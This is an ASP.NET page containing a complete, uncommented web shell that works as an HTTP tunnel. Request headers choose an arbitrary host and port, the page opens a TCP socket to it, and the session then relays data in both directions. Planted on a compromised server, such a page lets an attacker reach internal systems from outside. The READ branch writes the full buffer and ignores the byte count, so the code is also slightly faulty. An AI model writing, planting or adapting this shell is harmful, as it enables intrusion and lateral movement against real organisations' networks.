<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    string verb = Request.QueryString["v"];
    if (verb == "CONNECT") {
        var sock = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        sock.Connect(Request.Headers.Get("X-H"), int.Parse(Request.Headers.Get("X-P")));
        Session["s"] = sock;
    } else if (verb == "FORWARD") {
        byte[] buf = new byte[Request.ContentLength];
        Request.InputStream.Read(buf, 0, buf.Length);
        ((Socket)Session["s"]).Send(buf);
    } else if (verb == "READ") {
        byte[] got = new byte[4096];
        int n = ((Socket)Session["s"]).Receive(got);
        Response.BinaryWrite(got);
    }
}
</script>
